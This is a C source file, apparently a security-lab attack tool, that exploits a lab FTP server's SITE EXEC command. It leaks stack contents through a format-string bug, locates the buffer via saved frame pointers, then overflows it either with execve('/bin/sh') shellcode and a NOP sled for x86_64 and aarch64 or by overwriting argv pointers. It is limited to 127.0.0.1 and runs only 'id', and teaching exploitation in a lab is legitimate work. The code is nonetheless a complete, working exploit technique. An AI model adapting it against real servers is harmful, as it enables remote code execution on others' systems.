/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * The lab's attack on the lab's FTP server, on 127.0.0.1 and nowhere else. What it makes the server do is harmless:
 * run "id" and write the answer to a marker file in the served folder.
 *
 *   1. Learn where things lie: the server prints words of its stack when asked in the right way (a format string).
 *   2. Overflow the buffer of SITE EXEC.
 *      shellcode: the return address leads into the buffer, where machine code waits. A call from the stack: foreign.
 *      pointer:   only the names of the program and its arguments are replaced. All code that runs is legitimate.
 */
#include <arpa/inet.h>
#include <ctype.h>
#include <errno.h>
#include <signal.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <unistd.h>

#define TEXT_SIZE  512 /* of the buffer in SITE EXEC */
#define ARGV_WORDS 4   /* after it */
#define WORDS      256 /* of the stack that are looked at */
#define WORDS_EACH 24  /* in one request */
#define MARK       "whereami" /* 8 bytes to recognise the buffer by */
#define SLED       128
#define CODE_LOW   0x400000UL /* where the server's program text lies: it is linked at a fixed address */
#define CODE_HIGH  0x600000UL

#if defined(__x86_64__)
#define FIRST_WORD 4 /* the arguments before it travel in registers */
#elif defined(__aarch64__)
#define FIRST_WORD 6
#else
#define FIRST_WORD 1
#endif

/* execve("/bin/sh", {"/bin/sh", "-c", what follows, NULL}, NULL), wherever it lies */
#ifdef __x86_64__
#define HAVE_SHELLCODE 1
__asm__(".pushsection .rodata\n"
	"shellcode_start:\n"
	"	lea shellcode_end(%rip), %rax\n"
	"	lea 1f(%rip), %rdi\n"
	"	lea 2f(%rip), %rsi\n"
	"	xor %edx, %edx\n"
	"	push %rdx\n"
	"	push %rax\n"
	"	push %rsi\n"
	"	push %rdi\n"
	"	mov %rsp, %rsi\n"
	"	push $59\n"
	"	pop %rax\n"
	"	syscall\n"
	"1:	.asciz \"/bin/sh\"\n"
	"2:	.asciz \"-c\"\n"
	"shellcode_end:\n"
	".popsection\n");
#define NOP "\x90"
#elif defined(__aarch64__)
#define HAVE_SHELLCODE 1
__asm__(".pushsection .rodata\n"
	"	.balign 4\n"
	"shellcode_start:\n"
	"	adr x0, 1f\n"
	"	adr x1, 2f\n"
	"	adr x2, shellcode_end\n"
	"	stp x2, xzr, [sp, #-16]!\n"
	"	stp x0, x1, [sp, #-16]!\n"
	"	mov x1, sp\n"
	"	mov x2, xzr\n"
	"	mov x8, #221\n"
	"	svc #0\n"
	"1:	.asciz \"/bin/sh\"\n"
	"2:	.asciz \"-c\"\n"
	"shellcode_end:\n"
	".popsection\n");
#define NOP "\x1f\x20\x03\xd5"
#else
#define HAVE_SHELLCODE 0
#endif
#if HAVE_SHELLCODE
/* Hidden: labels of this file, which are not to be looked for in a table. */
extern const char shellcode_start[] __attribute__((visibility("hidden")));
extern const char shellcode_end[] __attribute__((visibility("hidden")));
#endif

struct stack {
	uint64_t word[WORDS];
	size_t buffer;    /* index of the word that SITE EXEC's buffer begins with */
	size_t frame;     /* index of the saved frame pointer after it; the return address follows */
	uint64_t address; /* of the buffer */
};

static int connection = -1;

__attribute__((noreturn, format(printf, 1, 2))) static void fail(const char *format, ...)
{
	va_list args;

	fprintf(stderr, "attack: ");
	va_start(args, format);
	vfprintf(stderr, format, args);
	va_end(args);
	fprintf(stderr, "\n");
	exit(2);
}

static void connect_to(unsigned port)
{
	struct sockaddr_in server = { .sin_family = AF_INET, .sin_port = htons(port),
				      .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	struct timeval patience = { .tv_sec = 60 };

	connection = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (connection < 0 || connect(connection, (struct sockaddr *)&server, sizeof(server)) < 0)
		fail("127.0.0.1 port %u: %s", port, strerror(errno));
	setsockopt(connection, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof(patience));
}

static void send_bytes(const unsigned char *bytes, size_t n)
{
	while (n > 0) {
		ssize_t sent = send(connection, bytes, n, MSG_NOSIGNAL);

		if (sent < 0)
			fail("sending: %s", strerror(errno));
		bytes += sent;
		n -= sent;
	}
}

/* A command as a Telnet string: every byte can be sent. */
static void send_command(const void *command, size_t n)
{
	unsigned char wire[2 * TEXT_SIZE + 4 * WORDS];
	const unsigned char *byte = command;
	size_t at = 0;

	for (size_t i = 0; i < n && at + 4 < sizeof(wire); i++) {
		wire[at++] = byte[i];
		if (byte[i] == 0xff)
			wire[at++] = 0xff;
		if (byte[i] == '\r')
			wire[at++] = 0;
	}
	wire[at++] = '\r';
	wire[at++] = '\n';
	send_bytes(wire, at);
}

/* One line of the answer; false when the server has hung up. */
static bool read_line(char *line, size_t size)
{
	size_t n = 0;
	char c;

	while (recv(connection, &c, 1, 0) == 1) {
		if (c == '\n') {
			line[n] = 0;
			return true;
		}
		if (c != '\r' && n + 1 < size)
			line[n++] = c;
	}
	return false;
}

/* The last line of the answer; NULL when the server has hung up. */
static char *read_reply(void)
{
	static char line[8192];

	do
		if (!read_line(line, sizeof(line)))
			return NULL;
	while (!(isdigit((unsigned char)line[0]) && isdigit((unsigned char)line[1]) && line[3] == ' '));
	return line;
}

static const char *request(const char *command)
{
	const char *line;

	send_command(command, strlen(command));
	line = read_reply();
	if (!line)
		fail("the server has hung up");
	return line;
}

static void log_in(void)
{
	char *banner = read_reply();

	if (banner && !strncmp(banner, "421 ", 4)) {
		for (char *c = banner; *c; c++)
			if (!isprint((unsigned char)*c))
				*c = '?';
		fail("the server lets nobody in: %s", banner + 4);
	}
	if (!banner || !strstr(banner, "ImSafe lab FTP server"))
		fail("this is not the lab's FTP server: leaving it alone");
	request("USER anonymous");
	if (strncmp(request("PASS lab@"), "230", 3))
		fail("the server does not let us in");
}

/* Reads the stack through the format of the error message, some words a request. */
static void read_stack(struct stack *stack)
{
	stack->buffer = WORDS;
	for (size_t first = 0; first < WORDS; first += WORDS_EACH) {
		char command[1024];
		size_t n = snprintf(command, sizeof(command), "SITE EXEC " MARK " ");
		const char *answer;
		uint64_t mark;

		for (size_t i = first; i < first + WORDS_EACH && i < WORDS; i++)
			n += snprintf(command + n, sizeof(command) - n, "%%%zu$016lx", FIRST_WORD + i);
		answer = strstr(request(command), MARK " ");
		if (!answer)
			fail("the server does not show its stack");
		answer += strlen(MARK " ");
		memcpy(&mark, MARK, sizeof(mark));
		for (size_t i = first; i < first + WORDS_EACH && i < WORDS; i++, answer += 16) {
			char digits[17] = "";

			if (strlen(answer) < 16)
				fail("the server shows too little of its stack");
			memcpy(digits, answer, 16);
			stack->word[i] = strtoull(digits, NULL, 16);
			if (stack->word[i] == mark && stack->buffer == WORDS)
				stack->buffer = i;
		}
	}
}

static bool is_frame(const struct stack *stack, size_t i)
{
	return i + 1 < WORDS && stack->word[i] > CODE_HIGH && stack->word[i] % 8 == 0 && stack->word[i + 1] >= CODE_LOW &&
	       stack->word[i + 1] < CODE_HIGH;
}

/* Does the buffer lie at this address? The server is made to print what stands there: the question itself. */
static bool is_buffer(const struct stack *stack, uint64_t address)
{
	static const char start[] = "SITE EXEC ", mark[] = "is this ";
	char command[sizeof(start) + 64 + 8] = "", *text = command + strlen(start);
	const char *answer;

	snprintf(command, sizeof(command), "%s%s%%%zu$.7s", start, mark, FIRST_WORD + stack->buffer + 8);
	memcpy(text + 64, &address, sizeof(address));
	send_command(command, text + 64 + sizeof(address) - command);
	answer = read_reply();
	return answer && strstr(answer, "is this is this");
}

/*
 * A saved frame pointer is the address of the next one. If words a and b are two of them in a row, word b lies at the
 * address word[a], and with it every word's address is known; word b then leads to a third.
 */
static bool is_chain(const struct stack *stack, size_t a, size_t b)
{
	uint64_t distance = stack->word[b] - stack->word[a];

	return is_frame(stack, a) && is_frame(stack, b) && distance > 0 && distance < 8 * (WORDS - b - 1) &&
	       stack->word[b + distance / 8 + 1] >= CODE_LOW;
}

static void locate(struct stack *stack)
{
	for (size_t a = 0; a < WORDS; a++) {
		for (size_t b = a + 1; b < WORDS; b++) {
			if (!is_chain(stack, a, b) || !is_buffer(stack, stack->word[a] - 8 * (b - stack->buffer)))
				continue;
			stack->address = stack->word[a] - 8 * (b - stack->buffer);
			/* aarch64: a function's own record lies before its buffer, its caller's after it. */
			stack->frame = a > stack->buffer ? a : b;
			return;
		}
	}
	fail("no chain of frames on the stack");
}

#if HAVE_SHELLCODE
static void attack_shellcode(const struct stack *stack, const char *command)
{
	size_t code = shellcode_end - shellcode_start, from = stack->buffer * 8, end = stack->frame * 8 + 16 - from;
	unsigned char payload[sizeof("SITE EXEC ") + 8 * WORDS] = "SITE EXEC ", *at = payload + strlen("SITE EXEC ");
	uint64_t target = stack->address + SLED / 2;

	/* What lies between buffer and return address is put back as it was. */
	memcpy(at, &stack->word[stack->buffer], end);
	for (size_t i = 0; i < SLED; i += sizeof(NOP) - 1)
		memcpy(at + i, NOP, sizeof(NOP) - 1);
	memcpy(at + SLED, shellcode_start, code);
	memcpy(at + SLED + code, command, strlen(command) + 1);
	memcpy(at + end - 8, &target, 8);
	printf("Overflow: %zu bytes for a buffer of %d; the return address becomes %#llx, inside it.\n", end, TEXT_SIZE,
	       (unsigned long long)target);
	/* The server adds the NUL at the end of a command itself: the address ends in one. */
	send_command(payload, at + end - 1 - payload);
}
#endif

static void attack_pointer(const struct stack *stack, const char *command)
{
	static const char start[] = "SITE EXEC date ", shell[] = "/bin/sh\0-c";
	unsigned char payload[sizeof(start) + TEXT_SIZE + 8 * ARGV_WORDS] = "", *at = payload + strlen(start);
	uint64_t argv[ARGV_WORDS] = { stack->address, stack->address + 8, stack->address + sizeof(shell), 0 };

	memcpy(payload, start, strlen(start));
	memcpy(at, shell, sizeof(shell));
	memcpy(at + sizeof(shell), command, strlen(command) + 1);
	memcpy(at + TEXT_SIZE, argv, sizeof(argv));
	printf("Overflow: %d bytes for a buffer of %d; 'date' becomes 'sh -c'.\n", TEXT_SIZE + 8 * ARGV_WORDS, TEXT_SIZE);
	send_command(payload, at + TEXT_SIZE + sizeof(argv) - 1 - payload);
}

static int usage(FILE *out)
{
	fprintf(out,
		"Usage: attack [-k KIND] [-m NAME] [-w SECONDS] PORT\n\n"
		"Attacks the lab's FTP server on 127.0.0.1:PORT. Harmless: runs 'id' there, into a marker file.\n\n"
		"  -k KIND     shellcode (code on the stack%s) or pointer (legitimate code, another program)\n"
		"  -m NAME     the marker file, in the served folder; default: marker\n"
		"  -w SECONDS  wait between the log-in and the attack, time to attach a sensor to the session\n",
		HAVE_SHELLCODE ? "" : "; not for this processor");
	return out == stdout ? 0 : 2;
}

static unsigned parse_port(const char *text)
{
	char *end;
	long port = strtol(text, &end, 10);

	if (*end || port < 1 || port > 65535)
		fail("'%.32s' is not a port; the address is always 127.0.0.1", text);
	return (unsigned)port;
}

/* Has the server run the command. */
static void attack(const char *kind, const char *command)
{
	struct stack stack;
	char line[256];

	read_stack(&stack);
	if (stack.buffer == WORDS)
		fail("the buffer is not on the part of the stack that the server shows");
	locate(&stack);
	printf("Stack read: the buffer lies at %#llx.\n", (unsigned long long)stack.address);
#if HAVE_SHELLCODE
	if (!strcmp(kind, "shellcode"))
		attack_shellcode(&stack, command);
	else
#endif
		attack_pointer(&stack, command);

	/* After shellcode the session is the shell: it ends with it. Otherwise it goes on as if nothing had happened. */
	if (!strcmp(kind, "pointer")) {
		if (!read_reply())
			fail("the server has hung up: the attack failed");
		request("QUIT");
	}
	while (read_line(line, sizeof(line)))
		;
	printf("Done: the server ran '%s'.\n", command);
}

int main(int argc, char **argv)
{
	const char *kind = HAVE_SHELLCODE ? "shellcode" : "pointer", *marker = "marker";
	char command[256];
	unsigned wait = 0;
	int option;

	while ((option = getopt(argc, argv, "k:m:w:h")) != -1) {
		switch (option) {
		case 'k':
			kind = optarg;
			break;
		case 'm':
			marker = optarg;
			break;
		case 'w':
			wait = strtoul(optarg, NULL, 10);
			break;
		case 'h':
			return usage(stdout);
		default:
			return usage(stderr);
		}
	}
	if (optind + 1 != argc)
		return usage(stderr);
	if (strlen(marker) > 64 || !*marker || marker[strspn(marker, "abcdefghijklmnopqrstuvwxyz0123456789-_")])
		fail("a marker's name has only lower-case letters, digits, - and _");
	if (strcmp(kind, "pointer") && !(HAVE_SHELLCODE && !strcmp(kind, "shellcode")))
		fail("there is no kind '%.32s' here", kind);
	snprintf(command, sizeof(command), "id >%s", marker);
	signal(SIGPIPE, SIG_IGN);
	setvbuf(stdout, NULL, _IOLBF, 0);

	connect_to(parse_port(argv[optind]));
	log_in();
	if (wait) {
		printf("Logged in; waiting %u s.\n", wait);
		sleep(wait);
	}
	attack(kind, command);
	return 0;
}
